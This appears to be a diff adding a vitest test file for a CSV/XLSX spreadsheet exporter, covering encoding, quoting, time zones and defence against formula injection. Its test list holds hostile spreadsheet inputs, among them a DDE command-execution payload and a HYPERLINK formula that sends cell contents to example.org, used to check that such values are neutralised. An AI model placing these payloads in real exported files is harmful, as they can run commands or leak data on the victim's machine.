@@ -1,0 +1,129 @@
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { buffer } from 'node:stream/consumers'
+import { expect, onTestFinished, test } from 'vitest'
+import yauzl from 'yauzl'
+import { type Cell, harmless, type Sheet, type SheetFormat, writeSheet } from './sheets.ts'
+
+async function* inOne(rows: Cell[][]): AsyncGenerator<Cell[][]> {
+  yield rows
+}
+
+const aSheet = (columns: string[], rows: Cell[][]): Sheet => ({
+  name: 'Payments',
+  timeZone: 'Asia/Karachi',
+  columns,
+  rows: inOne(rows),
+})
+
+function aPath(): string {
+  const folder = mkdtempSync(join(tmpdir(), 'sheet-'))
+  onTestFinished(() => rmSync(folder, { recursive: true }))
+  return join(folder, 'file')
+}
+
+async function written(format: SheetFormat, sheet: Sheet): Promise<Buffer> {
+  const { path, size } = await writeSheet(aPath(), format, sheet)
+  const bytes = readFileSync(path)
+  expect(bytes).toHaveLength(size)
+  return bytes
+}
+
+/** The parts of an archive, by name. */
+function partsOf(bytes: Buffer): Promise<Record<string, string>> {
+  return new Promise((done, failed) => {
+    yauzl.fromBuffer(bytes, { lazyEntries: true }, (error, zip) => {
+      if (error) return failed(error)
+      const parts: Record<string, string> = {}
+      zip.on('entry', (entry: yauzl.Entry) => {
+        zip.openReadStream(entry, (problem, stream) => {
+          if (problem) return failed(problem)
+          buffer(stream).then((part) => {
+            parts[entry.fileName] = part.toString()
+            zip.readEntry()
+          }, failed)
+        })
+      })
+      zip.once('end', () => done(parts))
+      zip.readEntry()
+    })
+  })
+}
+
+const formulas = [
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  ' =1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://example.org?"&A1,"Click")',
+]
+
+test('CSV: a mark for UTF-8, lines that end in CR LF, quotes doubled, numbers bare, times by the clocks of the zone', async () => {
+  const rows: Cell[][] = [
+    ['Komal, "Dr"', 1050.5, new Date('2026-11-17T09:05:00Z'), null],
+    ['کومل\r\nبھٹو', -3, null, ' a ; b '],
+  ]
+  expect((await written('csv', aSheet(['Name', 'Amount', 'Opened (Asia/Karachi)', 'Note'], rows))).toString()).toBe(
+    '\uFEFFName,Amount,Opened (Asia/Karachi),Note\r\n"Komal, ""Dr""",1050.5,2026-11-17 14:05,\r\n"کومل\r\nبھٹو",-3,," a ; b "\r\n',
+  )
+})
+
+test('CON-051: text that begins like a formula gets an apostrophe, in any script; other text and numbers stay', async () => {
+  expect(formulas.map(harmless)).toEqual(formulas.map((text) => `'${text}`))
+  const plain = ['Komal', "O'Brien", 'a=1', '1-2', '', 'ali@example.org']
+  expect(plain.map(harmless)).toEqual(plain)
+  const lines = (
+    await written(
+      'csv',
+      aSheet(
+        ['Name'],
+        formulas.map((text) => [text]),
+      ),
+    )
+  ).toString()
+  expect(lines).not.toMatch(/(^|\r\n)"?[\s\uFEFF]*[=+\-@＝＋－＠]/)
+})
+
+test('XLSX: typed cells, no formula, a time as a number with a format; formulas stay text when they are edited', async () => {
+  const cells: Cell[] = ['<b>&"Komal\u0001', 1050.5, new Date('2026-11-17T09:05:00Z'), null, ...formulas]
+  const parts = await partsOf(await written('xlsx', aSheet(['Name <1>'], [cells])))
+  expect(Object.keys(parts).toSorted()).toEqual([
+    '[Content_Types].xml',
+    '_rels/.rels',
+    'xl/_rels/workbook.xml.rels',
+    'xl/styles.xml',
+    'xl/workbook.xml',
+    'xl/worksheets/sheet1.xml',
+  ])
+  const sheet = parts['xl/worksheets/sheet1.xml'] ?? ''
+  expect(sheet).not.toContain('<f')
+  expect(sheet).toContain('<c t="inlineStr" s="2"><is><t xml:space="preserve">Name &lt;1&gt;</t></is></c>')
+  expect(sheet).toContain('<t xml:space="preserve">&lt;b&gt;&amp;&quot;Komal\uFFFD</t>')
+  expect(sheet).toContain('<c><v>1050.5</v></c><c s="1"><v>46343.58680556</v></c><c/>')
+  expect(sheet.match(/<c t="inlineStr" s="3">/g)).toHaveLength(formulas.length)
+})
+
+test.each(['csv', 'xlsx'] as const)('a %s whose rows end with an error is no file', async (format) => {
+  async function* broken(): AsyncGenerator<Cell[][]> {
+    yield [['one']]
+    throw new Error('stopped')
+  }
+  await expect(writeSheet(aPath(), format, { ...aSheet(['Name'], []), rows: broken() })).rejects.toThrow('stopped')
+})
+
+test.each(['csv', 'xlsx'] as const)('a %s without rows has its head', async (format) => {
+  const bytes = await written(format, aSheet(['Name'], []))
+  expect(format === 'csv' ? bytes.toString() : Object.keys(await partsOf(bytes)).length).toBe(
+    format === 'csv' ? '\uFEFFName\r\n' : 6,
+  )
+})
